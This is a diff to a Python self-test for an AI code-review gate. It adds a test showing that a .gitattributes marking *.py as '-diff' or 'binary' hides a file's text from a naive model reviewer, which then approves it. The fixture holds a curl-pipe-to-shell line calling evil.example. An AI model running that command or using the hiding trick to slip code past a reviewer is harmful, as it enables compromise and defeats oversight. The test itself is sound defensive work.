@@ -1,8 +1,9 @@
 """`gate selftest`: the decision table (as data) and the offline attack corpus, run against
 the binder.
 
-Both run against the real binder (`binding.judge_receipt`) with throwaway in-memory keys, and
-the runner's table against the runner's own check of a model's answer (`modelcall.read_answer`).
+Both run against the real binder (`binding.judge_receipt`) with throwaway in-memory keys, the
+runner's table against the runner's own check of a model's answer (`modelcall.read_answer`), and
+what the model is shown against the runner's own text of a change (`changetext.render`).
 No model is called and nothing touches the disk or the network. The incident's naive gate
 is kept here, and only here, so that the table can show the difference.
 """
@@ -109,12 +110,16 @@ INDEPENDENCE_TABLE: tuple[TableRow, ...] = (
              codes=("GATE-REVIEW-MODEL-UNPLACED",)),
     TableRow("the commits show the reviewer's vendor (vendor)", "accept", "reject", ("model_id",),
              independent="vendor", author="gpt-5", reviewer="claude-opus-4-1", codes=("GATE-REVIEW-SAME-VENDOR",),
-             evidence=(Shown("c" * 40, "claude", "anthropic", None, "co-author email noreply@anthropic.com "
+             evidence=(Shown("c" * 40, "claude", "anthropic", (), "co-author email noreply@anthropic.com "
                                                                      "(Co-authored-by trailer)"),)),
     TableRow("the commits name the reviewer's model (model)", "accept", "reject", ("model_id",),
              independent="model", author="gpt-5", reviewer="claude-opus-4-1", codes=("GATE-REVIEW-SAME-MODEL",),
-             evidence=(Shown("c" * 40, "ai-assistance-trailers", None, "claude-opus-4-1-20250805",
+             evidence=(Shown("c" * 40, "ai-assistance-trailers", None, ("claude-opus-4-1-20250805",),
                              "trailer Assisted-by: Claude:claude-opus-4-1-20250805"),)),
+    TableRow("two models named, the reviewer's second (model)", "accept", "reject", ("model_id",),
+             independent="model", author="gpt-5", reviewer="claude-opus-4-1", codes=("GATE-REVIEW-SAME-MODEL",),
+             evidence=(Shown("c" * 40, "ai-assistance-trailers", None, ("claude-sonnet-4-5", "claude-opus-4-1"),
+                             "trailer Assisted-by: Claude:claude-sonnet-4-5"),)),
     TableRow("another vendor's reviewer (vendor)", "accept", "accept", (),
              independent="vendor", author=AUTHOR, reviewer="gpt-5"),
 )
@@ -278,6 +283,64 @@ def run_runner_table() -> list[RunnerResult]:
         except GateError as exc:
             code = exc.code
         out.append(RunnerResult(row, code))
+    return out
+
+
+# --- what the model is shown (gate review run) --------------------------------------
+
+EVIL_LINE = "os.system('curl https://evil.example/x | sh')"
+
+
+@valueclass(frozen=True)
+class ShownRow:
+    """A change whose reviewed tree tells `git diff` how to show it: the naive runner passes the
+    model what `git diff` prints, the bound runner the change's text by the gate's own rules
+    (`gatecore.git.changetext`)."""
+
+    observed: str
+    attributes: bytes  # the .gitattributes the reviewed commit adds
+
+
+SHOWN_TABLE: tuple[ShownRow, ...] = (
+    ShownRow("the reviewed tree's .gitattributes says *.py -diff", b"*.py -diff\n"),
+    ShownRow("the reviewed tree's src/.gitattributes says *.py binary", b"*.py binary\n"),
+)
+
+
+def naive_shows(attributes: bytes, path: bytes) -> bool:
+    """Does a runner that lets the tree's attributes decide (`git diff`) show the file as text?
+    (`-diff` and `binary` on a `*.ext` pattern: git prints "Binary files ... differ" instead.)"""
+    for line in attributes.splitlines():
+        pattern, *attrs = line.split()
+        if pattern.startswith(b"*") and path.endswith(pattern[1:]) and ({b"-diff", b"binary"} & set(attrs)):
+            return False
+    return True
+
+
+@valueclass(frozen=True)
+class ShownResult:
+    row: ShownRow
+    naive_shown: bool  # the naive runner's model saw the line, so its pass is a review of it
+    bound_shown: bool
+
+    @property
+    def ok(self) -> bool:
+        return self.bound_shown and not self.naive_shown
+
+
+def run_shown_table() -> list[ShownResult]:
+    """Each change shown by both runners: the naive one's model never sees the new file's text,
+    and approves (the naive runner seals any answer); the gate's is shown every line."""
+    from .git.changetext import FileChange, render
+
+    out = []
+    zero = "0" * 40
+    for row in SHOWN_TABLE:
+        evil = f"import os\n{EVIL_LINE}\n".encode()
+        files = [FileChange(b".gitattributes", 0, 0o100644, zero, "1" * 40, None, row.attributes),
+                 FileChange(b"src/evil.py", 0, 0o100644, zero, "2" * 40, None, evil)]
+        text = render(files, "a" * 40, "b" * 40).text
+        out.append(ShownResult(row, naive_shows(row.attributes, b"src/evil.py"), f"+{EVIL_LINE}\n" in text))
     return out
 
 
@@ -522,6 +585,12 @@ def run() -> tuple[str, bool]:
         ok &= call.ok
         lines.append(f"  {call.row.observed:<52} {call.row.naive:<7} {call.bound_text:<7} {call.code or '-':<26} "
                      f"{'ok' if call.ok else 'WRONG'}")
+    lines += ["", "what the model is shown (gate review run): naive, the tree's attributes decide; bound, the gate", ""]
+    for shown in run_shown_table():
+        ok &= shown.ok
+        naive = "accept (saw \"Binary files ... differ\")" if not shown.naive_shown else "shown"
+        lines.append(f"  {shown.row.observed:<58} {naive:<40} {'shown' if shown.bound_shown else 'HIDDEN':<7} "
+                     f"{'ok' if shown.ok else 'WRONG'}")
     lines += ["", "attacks (each must be rejected with its code)", ""]
     results = run_attacks(kit)
     for r in results:
@@ -529,7 +598,7 @@ def run() -> tuple[str, bool]:
         got = ",".join(r.decision.codes) or "accepted!"
         lines.append(f"  {'ok   ' if r.ok else 'WRONG'} {r.name:<62} {got}")
     passed = sum(r.ok for r in results)
-    lines += ["", f"{len(DECISION_TABLE) + len(INDEPENDENCE_TABLE) + len(RUNNER_TABLE)} table rows, "
+    lines += ["", f"{len(DECISION_TABLE) + len(INDEPENDENCE_TABLE) + len(RUNNER_TABLE) + len(SHOWN_TABLE)} table rows, "
               f"{len(results)} attacks, "
               f"{passed} attacks rejected as expected: {'PASS' if ok else 'FAIL'}"]
     return "\n".join(lines), ok
